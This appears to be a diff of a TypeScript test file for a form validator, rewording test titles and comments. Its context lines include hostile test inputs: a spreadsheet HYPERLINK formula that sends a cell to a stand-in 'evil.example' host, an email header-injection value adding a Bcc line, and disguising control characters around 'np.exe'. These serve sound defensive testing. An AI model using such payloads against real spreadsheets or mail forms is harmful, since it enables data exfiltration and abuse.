@@ -6,7 +6,7 @@ import type { FormValues } from './form-values.ts';
 import { type FormEntries, readValues } from './read-values.ts';
 import { receivedValues, sentValues } from './sent-values.ts';
 
-/** What visitors and machines send that nobody meant: to each field by a form, to each argument by a program (FRM-14, SEC). */
+/** Invalid input of visitors and programs: for each field by a form, for each argument by a program (FRM-14, SEC). */
 const fields: Record<FormField['type'], FormField> = {
   Agree: exampleField('Agree', { required: true }),
   Checkboxes: exampleField('Checkboxes'),
@@ -32,7 +32,7 @@ const formula = '=HYPERLINK("https://evil.example?x="&A1)';
 const header = 'a@example.org\r\nBcc: everyone@example.org';
 const controls = 'a\0b\u0007c\u001b[2Jd\u202e\u200eg\u200fnp.exe\ud800\u2028e';
 
-/** By type: an input in a form, and what is said of it; nothing where it is kept as a text that does nothing. */
+/** By type: an input in a form and its problems; empty if it is stored as harmless text. */
 const posted: [FormField['type'], string, string[]][] = [
   ['SingleLineText', html, []],
   ['SingleLineText', formula, []],
@@ -69,7 +69,7 @@ const posted: [FormField['type'], string, string[]][] = [
   ['Agree', '', ['required']],
 ];
 
-describe('FRM-14 what a form sends', () => {
+describe('FRM-14 input of a form', () => {
   it.each(posted)('%s: %j', (type, input, keys) => {
     const field = fields[type];
     expect(keysOf(field, readValues([field], [[field.handle, input]]))).toEqual(keys);
@@ -78,7 +78,7 @@ describe('FRM-14 what a form sends', () => {
     expect(keysOf(field, receivedValues([field], { [field.handle]: argument }))).toEqual(keys);
   });
 
-  it('a name takes nothing but letters in each of its parts', () => {
+  it('a name accepts only letters in each of its parts', () => {
     for (const text of [html, formula, 'Ada1', 'a@b', 'x'.repeat(101)]) {
       const entries: FormEntries = ['prefix', 'firstName', 'lastName'].map((part) => [`name.${part}`, text] as const);
       const key = text.length > 100 ? 'tooLong' : 'letters';
@@ -87,7 +87,7 @@ describe('FRM-14 what a form sends', () => {
     }
   });
 
-  it('text that would do something elsewhere is kept as it was typed, without what cannot be printed', () => {
+  it('markup and formulas are stored as typed, without unprintable characters', () => {
     const read = (text: string) => readValues(all, [['singleLineText', text]]).singleLineText;
     expect(read(html)).toBe(html);
     expect(read(formula)).toBe(formula);
@@ -96,7 +96,7 @@ describe('FRM-14 what a form sends', () => {
     expect(read('\u{1f1f3}\u{1f1f1} \u05e9\u05dc\u05d5\u05dd')).toBe('\u{1f1f3}\u{1f1f1} \u05e9\u05dc\u05d5\u05dd');
   });
 
-  it('fifty files are refused by their number, others by size and ending', () => {
+  it('fifty files are refused by number, others by size and extension', () => {
     const files = (count: number, name: string, size = 10): FormEntries =>
       Array.from({ length: count }, () => ['fileUpload', { name, size }] as const);
     const keys = (entries: FormEntries) => keysOf(fields.FileUpload, readValues([fields.FileUpload], entries));
@@ -112,7 +112,7 @@ describe('FRM-14 what a form sends', () => {
     expect(keys([['fileUpload.file', 'token rubbish']])).toEqual(['fileGone']);
   });
 
-  it('fields twice, unknown fields and files in the place of texts change nothing', () => {
+  it('repeated fields, unknown fields and files instead of texts have no effect', () => {
     const entries: FormEntries = [
       ['email', 'a@example.org'],
       ['email', 'b@example.org'],
@@ -125,7 +125,7 @@ describe('FRM-14 what a form sends', () => {
   });
 });
 
-describe('FRM-14 a value of another shape is refused, and never makes a rule fail', () => {
+describe('FRM-14 a value of another shape is refused, and no rule throws', () => {
   const shapes: unknown[] = [
     'text',
     7,
@@ -176,13 +176,13 @@ describe('FRM-14 a value of another shape is refused, and never makes a rule fai
   });
 });
 
-describe('FRM-14 the largest input is judged at once', () => {
-  // A rule that goes through a text anew for each of its characters would take longer than a test may.
+describe('FRM-14 the largest input is validated quickly', () => {
+  // A rule with quadratic time would exceed the timeout of a test.
   const long = 100_000;
   const whole = (text: string) => text.repeat(Math.ceil(long / text.length));
   const texts = ['email', 'hidden', 'multiLineText', 'singleLineText', 'name', 'phone'];
 
-  /** The fields that are too long with this in each of them. */
+  /** Returns the fields that are too long if each contains this text. */
   function tooLong(text: string): (string | null)[] {
     const entries = all.flatMap(({ handle }) =>
       [handle, `${handle}.firstName`, `${handle}.country`, `${handle}.file`].map((name) => [name, text] as const),
@@ -195,11 +195,11 @@ describe('FRM-14 the largest input is judged at once', () => {
     expect(tooLong(whole(text))).toEqual(texts),
   );
 
-  it.each([' ', '\n', '\r', '\0', '\ud800'])('100,000 characters of %j, which say nothing', (text) =>
+  it.each([' ', '\n', '\r', '\0', '\ud800'])('100,000 characters of %j, which are empty', (text) =>
     expect(tooLong(whole(text))).toEqual([]),
   );
 
-  it('100,000 choices, and as many files', () => {
+  it('100,000 choices and files', () => {
     const entries: FormEntries = Array.from({ length: long }, (_, index) => ['checkboxes', `x${index}`] as const);
     const files: FormEntries = Array.from({ length: long }, () => ['fileUpload', { name: 'a.pdf', size: 1 }] as const);
     expect(keysOf(fields.Checkboxes, readValues(all, entries))).toEqual(['noOption']);
